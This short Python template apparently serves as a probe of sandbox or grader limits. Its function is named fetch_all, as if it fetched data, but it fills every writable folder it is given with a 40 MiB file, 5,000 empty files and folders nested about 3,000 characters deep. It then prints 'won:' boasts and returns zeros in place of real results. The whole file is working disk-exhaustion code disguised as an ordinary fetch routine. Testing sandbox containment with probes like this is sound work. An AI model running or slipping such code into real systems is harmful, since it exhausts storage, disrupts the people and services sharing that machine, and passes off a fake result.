"""Fills the disk: one large file, thousands of small ones, deep folders, in every place that takes them."""
import os

_won = []
MIB, FILES = 40, 5000

async def fetch_all(fetch, ids):
    for folder in ("." + ":@PLACES@").split(":"):
        try:
            path = f"{folder}/@MARKER@-large"
            with open(path, "wb", buffering=0) as opened:
                written = sum(opened.write(b"x" * (1 << 20)) for _ in range(MIB))
            _won.append(f"{written >> 20} MiB in {os.path.abspath(folder)}")
        except OSError:
            pass
        try:
            base = f"{folder}/@MARKER@-small"
            os.mkdir(base)
            for number in range(FILES):
                os.close(os.open(f"{base}/{number}", os.O_CREAT | os.O_WRONLY))
            deep = base
            while len(deep) < 3000:
                deep += "/deeper"
                os.mkdir(deep)
            _won.append(f"{FILES} files in {os.path.abspath(folder)}")
        except OSError:
            pass
    for claim in _won:
        print("won:", claim)
    return [0 for number in ids]
